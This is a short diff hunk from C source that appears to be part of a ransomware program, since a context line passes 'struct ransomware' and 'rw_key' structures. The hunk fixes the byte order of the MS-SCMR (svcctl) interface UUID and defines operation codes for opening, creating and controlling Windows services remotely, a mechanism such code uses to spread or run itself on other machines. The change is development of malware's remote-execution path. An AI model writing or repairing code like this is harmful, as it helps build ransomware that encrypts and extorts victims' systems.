@@ -469,8 +469,8 @@ static void on_create(struct ransomware *r, struct rw_key *k, const struct app_s
 
 /* ------------------------------------------------------------ remote calls */
 
-/* svcctl (MS-SCMR) and its operations. */
-static const uint8_t svcctl_uuid[16] = {0x81, 0xbb, 0x7a, 0x36, 0x44, 0x98, 0xf1, 0x35,
+/* svcctl (MS-SCMR, 367abb81-9844-35f1-ad32-98f038001003) and its operations. */
+static const uint8_t svcctl_uuid[16] = {0x36, 0x7a, 0xbb, 0x81, 0x98, 0x44, 0x35, 0xf1,
 					0xad, 0x32, 0x98, 0xf0, 0x38, 0x00, 0x10, 0x03};
 enum { SCMR_CONTROL_SERVICE = 1, SCMR_CREATE_SERVICE_W = 12, SCMR_OPEN_SERVICE_W = 16 };
 
